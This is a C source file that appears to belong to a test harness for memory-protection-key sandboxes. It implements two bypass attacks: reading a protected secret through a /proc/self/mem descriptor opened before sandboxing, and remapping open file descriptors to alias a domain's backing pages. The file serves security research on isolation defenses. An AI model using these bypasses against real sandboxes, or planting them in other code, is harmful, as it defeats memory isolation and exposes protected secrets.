/* B2: descriptors from before the sandbox: /proc/self/mem, which no later filter on
 * names can take back; and whatever file backs a domain, mapped a second time.
 *
 * Source: [PKU Pitfalls]; own trials for the backing file.
 */
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>
#include "attack.h"
#include "pages.h"

#define DESCRIPTORS 1024

static int memory = -1;

static void open_memory(void) { memory = (int)TRY("openat", open("/proc/self/mem", O_RDWR)); }

static void read_memory(void) {
    unsigned char bytes[SECRET_BYTES];
    ssize_t count = TRY("pread64", pread(memory, bytes, sizeof bytes, (off_t)target.secret));
    attack_hand_in(bytes, (size_t)count);
}

static void back_by_file(void) { (void)pages_share_with_file(1); }

/* Maps every open descriptor where a domain's own file would have the secret. */
static void map_backing(void) {
    off_t offset = (off_t)((uintptr_t)target.secret - target.base);
    for (int fd = 3; fd < DESCRIPTORS; fd++) {
        if (lseek(fd, 0, SEEK_END) <= offset) continue;
        void *alias = mmap(NULL, PAGE_BYTES, PROT_READ, MAP_SHARED, fd, offset);
        if (alias != MAP_FAILED) attack_hand_in(alias, SECRET_BYTES);
    }
}

const struct attack attacks[] = {
    {.variant = "mem", .prepare = open_memory, .attack = read_memory},
    {.variant = "backing", .while_open = back_by_file, .attack = map_backing},
    {0},
};
